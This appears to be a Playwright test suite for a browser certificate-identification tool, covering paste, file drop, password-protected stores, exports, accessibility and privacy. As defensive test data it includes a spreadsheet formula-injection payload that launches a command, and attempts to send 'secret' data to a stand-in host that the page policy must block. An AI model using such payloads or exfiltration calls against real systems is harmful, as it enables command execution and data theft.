import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import type { JSHandle, Locator, Page } from '@playwright/test';
import { certificate } from '#content/certificates/index.ts';
import { notices } from '#content/notices/index.ts';
import { addresses } from '#domain/site/addresses.ts';
import { translator } from '#locales/index.ts';
import { openTool } from './open-tool.ts';
import { expect, test } from './pages.ts';

const samples = 'tests/domain/certificates/samples';
const [notice] = notices;
const old = certificate(notice?.certificates.expiring[0] ?? '');
const replacement = certificate(notice?.certificates.replacement[0] ?? '');
const handshake = readFileSync(`${samples}/openssl/s-client-showcerts.txt`, 'utf8');
const pem = readFileSync(`${samples}/pem/blob-by-01.pem`, 'utf8');
const privateKey = generateKeyPairSync('rsa', { modulusLength: 2048 })
  .privateKey.export({ type: 'pkcs8', format: 'pem' })
  .toString();

const box = (page: Page) => page.locator('textarea');
const results = (page: Page) => page.locator('.results');

/** Pastes as a reader does, through the clipboard. */
async function paste(page: Page, text: string): Promise<void> {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.evaluate((copied) => navigator.clipboard.writeText(copied), text);
  await box(page).focus();
  await page.keyboard.press('ControlOrMeta+V');
}

/** Drops files on the page, as a file manager does. */
async function drop(page: Page, files: readonly { name: string; content: string }[]): Promise<void> {
  const transfer = await page.evaluateHandle((given) => {
    const made = new DataTransfer();
    for (const { name, content } of given) made.items.add(new File([content], name));
    return made;
  }, files);
  await dropOn(page, transfer);
}

/** Drags over the page until it listens, for a script that has not run yet hears nothing; then drops. */
async function dropOn(page: Page, dataTransfer: JSHandle<DataTransfer>): Promise<void> {
  await expect(async () => {
    await page.dispatchEvent('body', 'dragover', { dataTransfer });
    await expect(page.locator('.drop-here')).toBeVisible({ timeout: 500 });
  }).toPass();
  await page.dispatchEvent('body', 'drop', { dataTransfer });
}

/** The card with a heading. */
const card = (page: Page, heading: string): Locator =>
  page.locator('.thing').filter({ has: page.locator('h4', { hasText: heading }) });

for (const language of ['ja', 'en'] as const) {
  const t = translator(language, 'identify');
  const address = addresses.certificates(language);

  test.describe(`the identifier in ${language}`, () => {
    test('tells of what is pasted which CA it is, by the verdict first', async ({ page }) => {
      await page.goto(address);
      await paste(page, `${old.sha1}\nsha256/${replacement.spkiSha256Base64}\n${'1f'.repeat(20)}\n`);
      const status = results(page).locator('.summary');
      await expect(status).toContainText(t('summary.old', { count: 1, things: 3 }));
      await expect(status).toContainText(t('summary.unknown', { count: 1 }));
      await expect(status).toHaveRole('status');
      await expect(results(page).locator('h3').first()).toContainText(t('role.expiring'));
      const first = card(page, old.commonName);
      await expect(first).toContainText(t('validity.expired'));
      await expect(first.locator(`a[href="${addresses.certificate(language, old.id)}"]`)).toBeVisible();
      // the key of a CA fits all its certificates
      const ofKey = card(page, replacement.commonName);
      expect(await ofKey.locator('.candidates > li').count()).toBeGreaterThan(1);
    });

    test('shows a chain from the server up, with the part that changed', async ({ page }) => {
      await page.goto(address);
      await paste(page, handshake);
      const levels = page.locator('.levels > li');
      await expect(levels.first()).toContainText('*.blob.core.windows.net');
      await expect(levels.nth(1)).toContainText('Microsoft Azure TLS Issuing CA 01');
      await expect(levels.nth(1)).toContainText(t('role.expiring'));
      await expect(levels.nth(1)).toContainText(t('chain.changed'));
      await expect(levels.nth(1)).toHaveClass(/goes/);
      await expect(levels.nth(2)).toContainText('DigiCert Global Root G2');
      await expect(levels.nth(2)).not.toContainText(t('chain.changed'));
    });

    test('takes files by the button and by a drop, names their places and lets them go', async ({ page }) => {
      await page.goto(address);
      await page.setInputFiles(
        'input[type=file]',
        `${samples}/keytool/list-v-truststore-jks-shift-jis.ja.txt`,
      );
      await expect(results(page)).toContainText('list-v-truststore-jks-shift-jis.ja.txt');
      await drop(page, [
        { name: 'server.pem', content: pem },
        { name: 'pins.xml', content: `<pin digest="SHA-256">${replacement.spkiSha256Base64}</pin>` },
      ]);
      await expect(card(page, '*.blob.core.windows.net')).toContainText('server.pem');
      await expect(results(page)).toContainText('pins.xml');
      await page.getByRole('button', { name: t('attached.remove', { name: 'pins.xml' }) }).click();
      await expect(results(page)).not.toContainText('pins.xml');
      await page.getByRole('button', { name: t('box.clear') }).click();
      await expect(results(page).locator('h2')).toBeHidden();
      await expect(page.locator('.thing')).toHaveCount(0);
    });

    test('asks for the password of a store, says when it is wrong, and opens it', async ({ page }) => {
      await page.goto(address);
      await page.setInputFiles('input[type=file]', `${samples}/stores/openssl-own-password.p12`);
      const password = page.locator('input[type=password]');
      await expect(page.locator('.problems')).toContainText(
        t('problem.password-needed', { format: 'PKCS#12' }),
      );
      await expect(password).toHaveAttribute('autocomplete', 'off');
      await password.fill('wrong');
      await password.press('Enter');
      await expect(page.locator('.problems')).toContainText(
        t('problem.password-wrong', { format: 'PKCS#12' }),
      );
      await expect(password).toHaveValue('');
      await password.fill('yomitoki');
      await page.getByRole('button', { name: t('password.open'), exact: true }).click();
      await expect(page.locator('.thing').first()).toBeVisible();
      await expect(password).toHaveCount(0);
      const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
      expect(kept).not.toContain('yomitoki"');
    });

    test('takes a private key out at once, warns, and reads the rest', async ({ page }) => {
      await page.goto(address);
      await paste(page, `${privateKey}${old.sha1}\n`);
      await expect(box(page)).toHaveValue(
        `${t('hidden.placeholder', { label: 'PRIVATE KEY' })}\n${old.sha1}\n`,
      );
      await expect(page.locator('.problems')).toContainText(
        t('problem.private-key', { label: 'PRIVATE KEY' }),
      );
      await expect(card(page, old.commonName)).toBeVisible();
      // bare base64 tells only when it is read what it is
      const bare = privateKey.split('\n').slice(1, -2).join('\n');
      await box(page).fill(`${bare}\n${old.serial}\n`);
      await expect(box(page)).toHaveValue(`${t('hidden.placeholder', { label: 'base64' })}\n${old.serial}\n`);
      const whole = await page.locator('body').innerText();
      for (const line of bare.split('\n')) expect(whole).not.toContain(line);
    });

    test('says of everything it cannot read what it is and what to try, and reads the rest', async ({
      page,
    }) => {
      await page.goto(address);
      const folder = mkdtempSync(join(tmpdir(), 'identify-'));
      const file = (name: string, content: string | Uint8Array) => {
        writeFileSync(join(folder, name), content);
        return join(folder, name);
      };
      const png = Buffer.concat([
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
        Buffer.alloc(3000, 7),
      ]);
      const whole = Buffer.from(pem.replace(/-----.*-----|\s/g, ''), 'base64');
      await page.setInputFiles('input[type=file]', [
        file('cut.pem', pem.replace(/-----END[\s\S]*/, '')),
        file('cut.der', whole.subarray(0, 300)),
        file('picture.png', png),
        file('words.txt', 'Nothing of the kind. 何もありません。'),
        file('good.txt', old.sha256),
      ]);
      const problem = (name: string) => page.locator('.problems > li').filter({ hasText: name });
      await expect(problem('cut.pem')).toContainText(t('problem.pem-without-end'));
      await expect(problem('cut.der')).toContainText(
        t('problem.truncated', { expected: whole.length, present: 300 }),
      );
      await expect(problem('picture.png')).toContainText('PNG');
      await expect(problem('words.txt')).toContainText(t('problem.nothing-recognised'));
      await problem('words.txt').getByRole('link').click();
      await expect(page.locator('.recognised pre').first()).toBeVisible();
      await expect(card(page, old.commonName)).toBeVisible();
      rmSync(folder, { recursive: true });
    });

    test('refuses what is too large before it is read', async ({ page }) => {
      await page.goto(address);
      const large = await page.evaluateHandle(() => {
        const made = new DataTransfer();
        made.items.add(new File([new Uint8Array(65 * 1024 * 1024)], 'disk.img'));
        return made;
      });
      await dropOn(page, large);
      await expect(page.locator('.problems')).toContainText(
        t('problem.too-large', { size: '65 MB', limit: '64 MB' }),
      );
    });

    test('goes on without a connection once it is idle', async ({ page, context }) => {
      await openTool(page, address);
      await context.setOffline(true);
      await paste(page, `${pem}\n${old.sha1}`);
      await expect(card(page, '*.blob.core.windows.net')).toBeVisible();
      await drop(page, [{ name: 'roots.txt', content: handshake }]);
      await expect(results(page)).toContainText('roots.txt');
      await page.setInputFiles('input[type=file]', `${samples}/stores/openssl-legacy.p12`);
      await expect(results(page)).toContainText('openssl-legacy.p12');
      await context.setOffline(false);
    });

    test('sends nothing of what is put in, not even a request', async ({ page }) => {
      await openTool(page, address);
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      await paste(page, `${pem}\n${old.sha1}`);
      await expect(card(page, '*.blob.core.windows.net')).toBeVisible();
      await page.setInputFiles('input[type=file]', `${samples}/stores/openssl-own-password.p12`);
      await page.locator('input[type=password]').fill('yomitoki');
      await page.locator('input[type=password]').press('Enter');
      await expect(page.locator('input[type=password]')).toHaveCount(0);
      await page.getByRole('button', { name: t('result.copyText') }).click();
      await expect(page.locator('.take-away')).toContainText(t('result.copied'));
      expect(requests.filter((url) => !url.endsWith('/icon.svg') && !url.startsWith('blob:'))).toEqual([]);
    });

    test('gives its result as a text, as CSV and as a file that Excel opens', async ({ page }) => {
      await page.goto(address);
      await paste(page, `${old.sha1}\n=cmd|' /C calc'!A0 ${old.sha256}\n`);
      await expect(card(page, old.commonName)).toBeVisible();
      const copied = () => page.evaluate(() => navigator.clipboard.readText());
      await page.getByRole('button', { name: t('result.copyText') }).click();
      await expect(page.locator('.take-away')).toContainText(t('result.copied'));
      expect(await copied()).toContain(t('summary.oldOnly'));
      await page.getByRole('button', { name: t('result.copyCsv') }).click();
      await expect.poll(copied).toContain(`,${old.sha1},${old.sha256},`);
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: t('result.saveCsv') }).click();
      const bytes = readFileSync(await (await download).path());
      expect((await download).suggestedFilename()).toMatch(/^\S+-\d{4}-\d\d-\d\d\.csv$/);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(bytes.subarray(3).toString()).toBe(await copied());
    });

    test('answers the self-check with its result, beside the answers that came along', async ({ page }) => {
      await page.goto(`${address}#cloud=public&connection=https`);
      const link = page.getByRole('link', { name: t('take.link') });
      await paste(page, `${old.sha1}\n`);
      await expect(link).toHaveAttribute(
        'href',
        `${addresses.checkPlace(language, notice?.id ?? '', 'which-certificates')}#cloud=public&connection=https&compared=intermediate&identified-by=certificate&which-certificates=old-only`,
      );
      // what is unknown, or could not be read, might make it another answer
      await box(page).fill(`${old.sha1}\n${'1f'.repeat(20)}`);
      await expect(link).toHaveCount(0);
      await box(page).fill(`${old.sha1}\n-----BEGIN CERTIFICATE-----\nMIIF`);
      await expect(page.locator('.problems')).toBeVisible();
      await expect(link).toHaveCount(0);
      await box(page).fill(old.sha1);
      await link.click();
      // the check begins at the first question that is still open, and keeps what was answered
      await expect(page).toHaveURL(
        /\/check\/[a-z-]+\/#cloud=public&connection=https&.*which-certificates=old-only/,
      );
    });

    test('is worked by the keyboard alone', async ({ page }) => {
      await page.goto(address);
      const reach = async (target: Locator) => {
        for (let press = 0; press < 40; press += 1) {
          if (await target.evaluate((element) => element === document.activeElement)) return;
          await page.keyboard.press('Tab');
        }
        await expect(target).toBeFocused();
      };
      await reach(box(page));
      await page.keyboard.type(old.sha1);
      await reach(page.getByRole('button', { name: t('box.run'), exact: true }));
      await page.keyboard.press('Enter');
      await expect(results(page).locator('h2')).toBeFocused();
      await reach(card(page, old.commonName).locator('summary'));
      await page.keyboard.press('Enter');
      await expect(card(page, old.commonName).locator('.known')).toContainText(old.sha256);
    });

    for (const colorScheme of ['light', 'dark'] as const) {
      for (const width of [360, 1280]) {
        test(`has no accessibility violation with a result, ${colorScheme}, ${width} px wide`, async ({
          page,
        }) => {
          await page.emulateMedia({ colorScheme });
          await page.setViewportSize({ width, height: 800 });
          await page.goto(address);
          await paste(page, `${privateKey}${handshake}\n${old.sha1}\n${'1f'.repeat(20)}\n`);
          await page.setInputFiles('input[type=file]', `${samples}/stores/openssl-own-password.p12`);
          await expect(page.locator('input[type=password]')).toBeVisible();
          await expect(card(page, old.commonName).first()).toBeVisible();
          for (const details of await page.locator('details').all()) {
            await details.evaluate((element: HTMLDetailsElement) => element.setAttribute('open', ''));
          }
          const { violations } = await new AxeBuilder({ page }).analyze();
          expect(
            violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`),
          ).toEqual([]);
          const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
          expect(overflow).toBeLessThanOrEqual(0);
        });
      }
    }
  });
}

test('a long text is attached, and the page answers while it is read', async ({ page }) => {
  const t = translator('ja', 'identify');
  await openTool(page, addresses.certificates('ja'));
  // Twenty megabytes as a clipboard event: the clipboard itself is slower than what is tested.
  await page.evaluate((known) => {
    const beats: number[] = [];
    const beat = (now: number) => {
      beats.push(now);
      requestAnimationFrame(beat);
    };
    requestAnimationFrame(beat);
    Object.assign(window, { beats });
    const line = 'Nov 25 09:36:12 host app[1234]: GET /blob?sv=2024&sig=0123456789abcdef 200 証明書\n';
    const text = line.repeat(Math.ceil(20_000_000 / line.length)) + known;
    const clipboardData = new DataTransfer();
    clipboardData.setData('text/plain', text);
    document
      .querySelector('textarea')
      ?.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
  }, old.sha1);
  await expect(page.locator('.attached')).toContainText(t('attached.pasted', { number: 1 }));
  await expect(box(page)).toHaveValue('');
  await expect(card(page, old.commonName)).toBeVisible({ timeout: 30_000 });
  const longest = await page.evaluate(() => {
    const { beats } = window as unknown as { beats: number[] };
    return Math.max(...beats.map((beat, index) => beat - (beats[index - 1] ?? beat)));
  });
  expect(longest).toBeLessThan(2_000);
});

test('what was typed before the page was ready is read', async ({ page }) => {
  let release = () => {};
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route('**/_next/**', async (route) => {
    await held;
    await route.continue();
  });
  await page.goto(addresses.certificates('ja'), { waitUntil: 'commit' });
  await box(page).fill(old.sha1);
  release();
  await expect(card(page, old.commonName)).toBeVisible();
  await expect(box(page)).toHaveValue(old.sha1);
});

test('a link within the page and the way back leave the input alone', async ({ page }) => {
  await page.goto(addresses.certificates('en'));
  await box(page).fill(old.sha1);
  await expect(card(page, old.commonName)).toBeVisible();
  await page
    .getByRole('link', { name: translator('en', 'identify')('box.forms') })
    .first()
    .click();
  await expect(page).toHaveURL(/#forms$/);
  await page.goBack();
  await expect(box(page)).toHaveValue(old.sha1);
  await expect(card(page, old.commonName)).toBeVisible();
});

test.describe('the policy of the tool page', () => {
  test('lets no script send anything, nor write markup or code', async ({ browser, baseURL }) => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const reached: string[] = [];
    await openTool(page, `${baseURL}${addresses.certificates('ja')}`);
    await context.route('**/*', (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    const blocked = await page.evaluate(async () => {
      const violations: string[] = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        violations.push(effectiveDirective);
      });
      const attempts = [
        () => fetch('/robots.txt?input=secret'),
        () => navigator.sendBeacon('/collect', 'secret'),
        () => new WebSocket('wss://elsewhere.example/'),
        () => new EventSource('/events'),
        () => {
          new Image().src = 'https://elsewhere.example/?secret';
        },
        () => {
          document.createElement('p').innerHTML = '<b>secret</b>';
        },
        () => {
          const script = document.createElement('script');
          script.src = 'https://elsewhere.example/_next/static/chunks/a.js';
          document.head.append(script);
        },
        () => {
          const script = document.createElement('script');
          script.src = '/icon.svg';
          document.head.append(script);
        },
        () => {
          const frame = document.createElement('iframe');
          frame.src = 'https://elsewhere.example/';
          document.body.append(frame);
        },
        () => new Worker('/_y/none.js'),
      ];
      const outcomes: number[] = [];
      for (const attempt of attempts) {
        const before = violations.length;
        try {
          await attempt();
        } catch {
          // refused is what it should be
        }
        await new Promise((resolve) => setTimeout(resolve, 100));
        outcomes.push(violations.length - before);
      }
      return outcomes;
    });
    expect(blocked.map((count) => count > 0)).toEqual(blocked.map(() => true));
    expect(reached).toEqual([]);
    await context.close();
  });
});

test.describe('with scripts off', () => {
  test.use({ javaScriptEnabled: false });

  for (const language of ['ja', 'en'] as const) {
    test(`the ${language} page says so, gives the command and leads to the list`, async ({ page }) => {
      const t = translator(language, 'identify');
      await page.goto(addresses.certificates(language));
      // by selector: a search for text leaves out what stands in <noscript>
      const notice = page.locator('.without-scripts');
      await expect(notice).toBeVisible();
      expect(await notice.textContent()).toContain(t('noScript.title'));
      expect(await notice.locator('code').textContent()).toContain('npx yomitoki identify');
      await expect(box(page)).toBeHidden();
      await notice.locator('a').click();
      await expect(page.locator(`#list a[href="${addresses.certificate(language, old.id)}"]`)).toBeVisible();
    });
  }
});
